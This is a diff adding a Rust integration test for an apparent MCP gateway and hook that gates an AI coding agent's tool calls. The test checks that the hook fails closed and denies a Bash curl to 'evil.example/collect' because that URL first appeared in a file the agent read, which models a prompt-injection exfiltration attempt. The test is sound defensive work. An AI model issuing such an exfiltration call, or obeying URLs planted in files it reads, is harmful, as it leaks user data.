@@ -452,3 +452,139 @@ fn a_pause_asks_and_the_approved_call_moves_the_session() {
         "the approved write moved the session"
     );
 }
+
+/// `augur mcp` as a gateway (its upstream: Augur's own MCP server over stdio) with
+/// `--hook-socket`, the client's stdin held open; returns the process once the socket exists.
+struct LiveGateway(std::process::Child);
+
+impl Drop for LiveGateway {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn live_gateway(dir: &Path, socket: &Path) -> LiveGateway {
+    let policy = util::model("claude-code/policy.toml");
+    let upstream = format!("self={} mcp --session u", env!("CARGO_BIN_EXE_augur"));
+    let child = util::cmd()
+        .args(["mcp", "--monitor"])
+        .arg(dir.join("m.json"))
+        .arg("--policy")
+        .arg(&policy)
+        .args(["--upstream", &upstream, "--hook-socket"])
+        .arg(socket)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let g = LiveGateway(child);
+    let t = std::time::Instant::now();
+    while !socket.exists() {
+        assert!(
+            t.elapsed() < std::time::Duration::from_secs(60),
+            "the gateway did not create its hook socket"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    g
+}
+
+#[test]
+fn the_hook_gates_against_a_running_gateways_session_and_denies_without_one() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().unwrap();
+    monitor(dir.path());
+    let socket = dir.path().join("gateway.sock");
+    let sock = socket.to_str().unwrap();
+    let via = |input: &str| hook_args(dir.path(), &["--gateway", sock], input);
+    // No gateway: every event fails closed (exit 2, which blocks a PreToolUse).
+    let o = via(&pre(
+        "s",
+        "t1",
+        "Bash",
+        curl("https://hooks.corp.example/summary"),
+    ));
+    assert_eq!(util::code(&o), 2, "{}", util::stderr(&o));
+    assert!(
+        util::stderr(&o).contains("cannot reach the gateway"),
+        "{}",
+        util::stderr(&o)
+    );
+    let answers = {
+        let _g = live_gateway(dir.path(), &socket);
+        let mode = std::fs::metadata(&socket).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600);
+        let s = "abc";
+        quiet(&via(&prompt(s, PROMPT)));
+        let mut a = vec![decision(&via(&pre(s, "toolu_01", "Write", write_input())))];
+        quiet(&via(&post(
+            s,
+            "toolu_01",
+            "Write",
+            write_input(),
+            json!({"filePath": "/home/u/p/summary.txt", "success": true}),
+        )));
+        a.push(decision(&via(&pre(s, "toolu_02", "Read", read_input()))));
+        quiet(&via(&post(
+            s,
+            "toolu_02",
+            "Read",
+            read_input(),
+            json!({"type": "text", "file": {"filePath": "/home/u/p/notes.txt", "content": NOTES, "numLines": 2}}),
+        )));
+        a.push(decision(&via(&pre(
+            s,
+            "toolu_03",
+            "Bash",
+            curl("https://evil.example/collect"),
+        ))));
+        a.push(decision(&via(&pre(
+            s,
+            "toolu_04",
+            "Bash",
+            curl("https://hooks.corp.example/summary"),
+        ))));
+        // A request the gateway cannot take: exit 2.
+        let o = via(&event(s, "PreToolUse", json!({"tool_input": {}})));
+        assert_eq!(util::code(&o), 2, "{}", util::stderr(&o));
+        assert!(
+            util::stderr(&o).contains("no `tool_name`"),
+            "{}",
+            util::stderr(&o)
+        );
+        // An input the hook cannot read (a tool result cut short, say): exit 2, and from
+        // then on a URL never seen in the user's prompts is untrusted.
+        let other = curl("https://docs.example.org/page");
+        let before = decision(&via(&pre(s, "toolu_05", "Bash", other.clone())));
+        assert!(!before.1.contains("rule 14"), "{before:?}");
+        let o =
+            via(r#"{"session_id": "abc", "hook_event_name": "PostToolUse", "tool_response": {"#);
+        assert_eq!(util::code(&o), 2, "{}", util::stderr(&o));
+        assert!(
+            util::stderr(&o).contains("the gateway's session now treats"),
+            "{}",
+            util::stderr(&o)
+        );
+        let after = decision(&via(&pre(s, "toolu_06", "Bash", other)));
+        assert_eq!(after.0, "deny", "{after:?}");
+        a
+    };
+    // The same decisions as with a state file (the same monitor, policy and events).
+    let state_dir = tempfile::tempdir().unwrap();
+    monitor(state_dir.path());
+    let with_state = run_script(state_dir.path(), "abc");
+    let verdicts = |v: &[(String, String)]| v.iter().map(|(d, _)| d.clone()).collect::<Vec<_>>();
+    assert_eq!(verdicts(&answers), verdicts(&with_state), "{answers:?}");
+    assert_eq!(answers[2].0, "deny", "{answers:?}");
+    assert!(
+        answers[2]
+            .1
+            .contains("first appeared in the result of `Read`"),
+        "{answers:?}"
+    );
+    assert_ne!(answers[3].0, "deny", "{answers:?}");
+    // The gateway is gone: its socket with it, and the hook denies again.
+    assert!(!socket.exists() || via(&prompt("abc", PROMPT)).status.code() == Some(2));
+}
